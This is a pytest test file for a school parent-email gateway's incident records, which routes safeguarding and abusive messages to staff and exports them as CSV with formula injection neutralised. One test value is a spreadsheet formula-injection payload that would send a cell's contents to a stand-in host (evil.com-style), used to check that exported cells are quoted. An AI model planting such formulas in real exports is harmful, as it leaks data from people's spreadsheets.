"""Incident records (issue 10): recorded for every message routed to the DSL or the Head, and by hand;
exported as CSV a recording system can import, with formula injection neutralised. Through the SMTP
listener, a sink and a fixed clock; the CLI as an operator runs it."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from gateway.clock import FixedClock
from gateway.records import CSV_COLUMNS, add_incident, export_incidents, neutralise
from gateway.services import ServiceError, forward_to_dsl, review_dismiss
from tests.conftest import utc
from tests.support import DSL, HEAD, InProcessGateway, Sink, message, school_calendar, write_config

FAMILIES = ("family_id,email,parent_name,child_name,year_group,school\n"
            "F-PATEL,mum.patel@example.com,Priya Patel,Maya Patel,Year 3,oakfield\n"
            "F-PATEL,dad.patel@example.net,Raj Patel,Maya Patel,Year 3,oakfield\n"
            "F-PATEL,mum.patel@example.com,Priya Patel,Arjun Patel,Year 6,oakfield\n"
            "F-GRANT,lee.grant@example.org,Lee Grant,Mia Grant,Year 2,oakfield\n")
DISCLOSURE = "Maya told me her uncle hurts her when he babysits and she is scared of him.\n"
HOSTILE = ("You are a useless, pathetic excuse for a teacher. Keeping Mia in again is a disgrace and "
           "I will sort you out.\n")
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def cli(cfg: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gateway", "--config", str(cfg), *args], capture_output=True,
                          text=True, timeout=60, encoding="utf-8")


@pytest.fixture
async def school(tmp_path: Path, sink: Sink):
    cfg = write_config(tmp_path, sink_port=sink.port, calendar=school_calendar())
    (tmp_path / "families.csv").write_text(FAMILIES)
    assert cli(cfg, "families", "import", str(tmp_path / "families.csv")).returncode == 0
    # Tuesday 8 December 2026, 10:00 UTC: Autumn 2, school open.
    gw = await InProcessGateway(cfg, FixedClock(utc(2026, 12, 8, 10, 0))).start()
    yield gw
    await gw.stop()


async def send(gw: InProcessGateway, sender: str, subject: str, body: str) -> int:
    address = sender.split("<")[-1].rstrip(">")
    code, reply = await gw.send(message(sender=sender, subject=subject, body=body), mail_from=address)
    assert code == 250, reply
    await gw.settle()
    return int(reply.rsplit(" ", 1)[-1])


def exported(cfg: Path, *args: str) -> list[dict[str, str]]:
    out = cli(cfg, "incidents", "export", *args)
    assert out.returncode == 0, out.stderr
    reader = csv.DictReader(io.StringIO(out.stdout, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


async def test_dsl_and_head_routes_record_incidents_and_the_csv_round_trips(school, sink):
    cfg = school.config_path
    disclosure = await send(school, "Priya Patel <mum.patel@example.com>", "Worried about Maya", DISCLOSURE)
    hostile = await send(school, "Lee Grant <lee.grant@example.org>", INJECTION, HOSTILE)
    await send(school, "Raj Patel <dad.patel@example.net>", "Reading book", "Could Maya have a new book please?\n")
    assert sink.to(DSL) and sink.to(HEAD)
    rows = exported(cfg)
    assert len(rows) == 2, rows
    first, second = rows
    assert first == {
        "date": "2026-12-08", "time": "10:00", "school": "Oakfield Primary School", "child": "Maya Patel; Arjun Patel",
        "year group": "Year 3; Year 6", "family": "F-PATEL", "parent email": "mum.patel@example.com",
        "category": "safeguarding", "summary of the reasons": first["summary of the reasons"],
        "action": "sent to the DSL (dsl@oakfield-primary.sch.example) at once", "staff member": "parentgate",
        "message reference": f"Worried about Maya (message {disclosure})"}
    assert first["summary of the reasons"].split(":")[0] in {r["rule"] for r in school.messages()[0].reasons}
    assert second["category"] == "abusive" and second["family"] == "F-GRANT" and second["child"] == "Mia Grant"
    assert "useless" in second["summary of the reasons"] or "pathetic" in second["summary of the reasons"]
    # The subject began with "=": the cell starts with a quote, so a spreadsheet shows it as text.
    assert second["message reference"] == "'" + INJECTION + f" (message {hostile})"
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    # Never the message's body: the rule's evidence is a few words, not the text.
    assert not any("excuse for a teacher. Keeping" in v or "babysits and she is scared" in v
                   for row in rows for v in row.values())
    assert [r["category"] for r in exported(cfg, "--category", "safeguarding")] == ["safeguarding"]
    assert exported(cfg, "--from", "2026-12-09") == []
    assert len(exported(cfg, "--school", "oakfield", "--to", "2026-12-08")) == 2


async def test_an_incident_recorded_by_hand_names_the_family_children_and_who(school, sink):
    cfg = school.config_path
    out = cli(cfg, "incidents", "add", "--family", "dad.patel@example.net", "--category", "excessive contact",
              "--action", "@phoned the parent", "--note", "+44 call", "--actor", "head")
    assert out.returncode == 0, out.stderr
    row = exported(cfg)[0]
    assert row["category"] == "excessive contact" and row["family"] == "F-PATEL"
    assert row["child"] == "Maya Patel; Arjun Patel" and row["staff member"] == "head"
    assert row["action"] == "'@phoned the parent (+44 call)" and row["message reference"] == ""
    assert row["parent email"] == ""
    with pytest.raises(ServiceError):
        add_incident(school.rt, category="rudeness", action="x", actor="head", family="F-PATEL")
    with pytest.raises(ServiceError):
        add_incident(school.rt, category="negative", action="x", actor="head", family="nobody-here")
    disclosure = await send(school, "Priya Patel <mum.patel@example.com>", "Worried", DISCLOSURE)
    out = cli(cfg, "incidents", "add", "--message", str(disclosure), "--category", "safeguarding",
              "--action", "DSL phoned social care", "--actor", "dsl")
    assert out.returncode == 0, out.stderr
    assert "incident recorded (safeguarding) by dsl" in cli(cfg, "show", str(disclosure)).stdout
    bad = cli(cfg, "incidents", "add", "--message", "999", "--category", "negative", "--action", "x")
    assert bad.returncode == 1 and "no message 999" in bad.stderr


async def test_export_to_a_file_is_utf8_with_a_header(school, sink, tmp_path):
    await send(school, "Priya Patel <mum.patel@example.com>", "Zoë’s worry", DISCLOSURE)
    out = cli(school.config_path, "incidents", "export", "--out", str(tmp_path / "i.csv"))
    assert out.returncode == 0 and "1 incident(s)" in out.stdout
    with open(tmp_path / "i.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert tuple(rows[0]) == CSV_COLUMNS and rows[1][-1].startswith("Zoë’s worry")


def test_cells_that_could_start_a_formula_are_quoted():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Maya Patel") == "Maya Patel" and neutralise("") == ""


async def test_export_refuses_an_unknown_school_or_category(school):
    with pytest.raises(ServiceError):
        export_incidents(school.rt, io.StringIO(), school="elsewhere")
    with pytest.raises(ServiceError):
        export_incidents(school.rt, io.StringIO(), category="rude")


async def test_the_heads_later_action_is_added_to_the_incident_with_who(school, sink):
    hostile = await send(school, "Lee Grant <lee.grant@example.org>", "Mia", HOSTILE)
    review_dismiss(school.rt, hostile, "head@oakfield-primary.sch.example", "Spoke to Mr Grant")
    forward_to_dsl(school.rt, hostile, "head@oakfield-primary.sch.example", "worrying tone")
    [row] = exported(school.config_path)
    assert row["action"] == ("held for the Head of School's review (head@oakfield-primary.sch.example); then "
                             "dismissed (kept, not delivered): Spoke to Mr Grant; then forwarded to the DSL "
                             "(dsl@oakfield-primary.sch.example)")
    assert row["staff member"] == "head@oakfield-primary.sch.example"
